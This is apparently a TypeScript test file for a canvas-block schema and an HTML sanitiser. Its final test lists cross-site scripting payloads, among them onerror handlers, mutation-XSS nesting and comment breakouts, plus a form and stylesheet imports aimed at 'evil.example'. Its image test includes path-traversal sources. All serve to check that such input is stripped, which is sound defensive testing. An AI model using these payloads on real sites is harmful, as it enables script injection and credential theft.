import assert from 'node:assert/strict'
import { test } from 'node:test'
import { CanvasBody } from '@roost/contracts/conversations/canvas'
import {
  type BlockInput,
  type CanvasTemplate,
  mostBlockBytes,
} from '@roost/contracts/conversations/canvas-blocks'
import { isFault } from '../../kit/fault.ts'
import * as rules from './rules.ts'
import { sanitise } from './sanitise.ts'

const normalize = (blocks: Parameters<typeof rules.normalizeBlocks>[0]) =>
  rules.normalizeBlocks(blocks, sanitise)

const text = (markdown: string, id?: string): BlockInput => ({
  kind: 'markdown',
  payload: { markdown },
  ...(id ? { id } : {}),
})

/** Path and message of the first problem; null for a valid block. */
function problemOf(block: object, template?: CanvasTemplate): [string, string] | null {
  const parsed = CanvasBody.safeParse({ blocks: [text('first'), block], template })
  const [issue] = parsed.error?.issues ?? []
  return issue ? [issue.path.join('.'), issue.message] : null
}

test('every kind of block is accepted with its payload', () => {
  const payloads: Record<string, unknown> = {
    chart: {
      type: 'donut',
      series: [{ label: 'Runs', unit: 'per day', points: [{ ts: '2030-01-01', value: 3 }] }],
    },
    kpi: {
      tiles: [
        { label: 'Open', value: 3 },
        { label: 'Cost', value: '1.20', unit: 'USD' },
      ],
    },
    table: {
      columns: ['a', 'b'],
      rows: [
        ['x', 1],
        [null, true],
      ],
    },
    timeline: { events: [{ ts: '2030-01-01T00:00:00Z', label: 'Begun', detail: 'at last' }] },
    markdown: { markdown: '' },
    diagram: { mermaid: 'graph TD; A-->B' },
    html: { html: '<p>x</p>' },
    image: { src: 'charts/a.png', caption: 'A' },
  }
  for (const [kind, payload] of Object.entries(payloads))
    assert.equal(problemOf({ kind, payload }), null, kind)
  for (const payload of [null, 0, 'x', [], { a: { b: [1] } }])
    assert.equal(problemOf({ kind: 'json', payload }), null)
})

test('errors name the position of the block and its field', () => {
  const wrong: [object, string][] = [
    [{ payload: {} }, 'blocks.1.kind'],
    [{ kind: 'video', payload: {} }, 'blocks.1.kind'],
    [{ kind: 'json' }, 'blocks.1.payload'],
    [{ kind: 'chart', payload: { type: 'radar', series: [] } }, 'blocks.1.payload.type'],
    [
      {
        kind: 'chart',
        payload: { type: 'bar', series: [{ label: 'a', points: [{ ts: 'x', value: '1' }] }] },
      },
      'blocks.1.payload.series.0.points.0.value',
    ],
    [{ kind: 'kpi', payload: { tiles: [{ label: 'a', value: null }] } }, 'blocks.1.payload.tiles.0.value'],
    [{ kind: 'table', payload: { columns: ['a'], rows: [['x'], ['x', 'y']] } }, 'blocks.1.payload.rows.1'],
    [{ kind: 'table', payload: { columns: ['a'], rows: [[{}]] } }, 'blocks.1.payload.rows.0.0'],
    [{ kind: 'timeline', payload: { events: [{ label: 'a' }] } }, 'blocks.1.payload.events.0.ts'],
    [{ kind: 'diagram', payload: { mermaid: 'x'.repeat(20_001) } }, 'blocks.1.payload.mermaid'],
    [{ kind: 'markdown', payload: { markdown: 'x' }, id: 'a b' }, 'blocks.1.id'],
    [{ kind: 'markdown', payload: { markdown: 'x' }, slot: 'main' }, 'blocks.1.slot'],
  ]
  for (const [block, position] of wrong) assert.equal(problemOf(block)?.[0], position, JSON.stringify(block))
  assert.match(problemOf({ kind: 'video', payload: {} })?.[1] ?? '', /chart, kpi, table/)
  const twice = CanvasBody.safeParse({ blocks: [text('a', 'x'), text('b', 'x')] })
  assert.deepEqual(twice.error?.issues[0]?.path, ['blocks', 1, 'id'])
})

test('only slots of the template are valid', () => {
  assert.equal(problemOf({ ...text('x'), slot: 'kpis' }, 'dashboard'), null)
  assert.equal(problemOf({ ...text('x'), slot: 'key-points' }, 'brief'), null)
  assert.match(problemOf({ ...text('x'), slot: 'kpis' }, 'report')?.[1] ?? '', /summary/)
})

test('images come from the web, the workspace or a data URL only', () => {
  const data = (length: number) => {
    const head = 'data:image/png;base64,'
    return head + 'A'.repeat(length - head.length)
  }
  for (const src of [
    'https://example.org/a.png',
    'a.png',
    'out/b c.JPG',
    '/home/developer/x.webp',
    data(65_536),
  ])
    assert.equal(problemOf({ kind: 'image', payload: { src } }), null, src.slice(0, 40))
  for (const src of [
    'http://example.org/a.png',
    'https://',
    '//example.org/a.png',
    '/etc/passwd.png',
    '../a.png',
    'a/../../b.png',
    'a.svg',
    'javascript:alert(1).png',
    'data:text/html;base64,AAAA',
    'data:image/png,AAAA',
    'file:///a.png',
    data(65_537),
  ])
    assert.equal(
      problemOf({ kind: 'image', payload: { src } })?.[0],
      'blocks.1.payload.src',
      src.slice(0, 40),
    )
})

test('blocks without an id get the next free one', () => {
  const ids = normalize([text('a'), text('b', 'b1'), text('c'), text('d', 'own'), text('e')]).map(
    ({ id }) => id,
  )
  assert.deepEqual(ids, ['b2', 'b1', 'b3', 'own', 'b4'])
})

test('413 above 512 KiB of blocks, counted as UTF-8', () => {
  const overhead = Buffer.byteLength(JSON.stringify(normalize([text('')])))
  const room = mostBlockBytes - overhead
  assert.equal(normalize([text('ü'.repeat(Math.floor(room / 2)))]).length, 1)
  assert.throws(
    () => normalize([text('x'.repeat(room + 1))]),
    (error) => isFault(error, 'body_too_large'),
  )
})

test('sanitizing removes active content and keeps the rest', () => {
  const activeContent = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://tracker.example/a.gif">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<style>@import "https://evil.example/a.css"</style>',
    '<link rel=stylesheet href="https://evil.example/a.css"><meta http-equiv=refresh content=0><base href=//x>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<video src="https://evil.example/a"></video>',
  ]
  for (const html of activeContent) {
    // Text inside attributes is harmless.
    const sanitised = sanitise(html).replaceAll(/"[^"]*"/g, '""')
    assert.doesNotMatch(
      sanitised,
      /<(script|style|iframe|form|input|object|embed|link|meta|base|svg|video|img)/i,
      html,
    )
    assert.doesNotMatch(sanitised, /<[^>]*\son\w+\s*=/i, html)
  }
  assert.equal(
    sanitise('<a href="javascript:alert(1)" onclick="x()">a</a>'),
    '<a target="_blank" rel="noopener noreferrer">a</a>',
  )
  assert.equal(
    sanitise('<a href="https://example.org" target="_top">a</a>'),
    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">a</a>',
  )
  const harmless =
    '<h2>Week 3</h2><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table><img src="data:image/png;base64,AAAA" alt="x" />'
  assert.equal(sanitise(harmless), harmless)
  assert.equal(sanitise('<p style="position:fixed" class="x" id="y">a</p>'), '<p>a</p>')
})
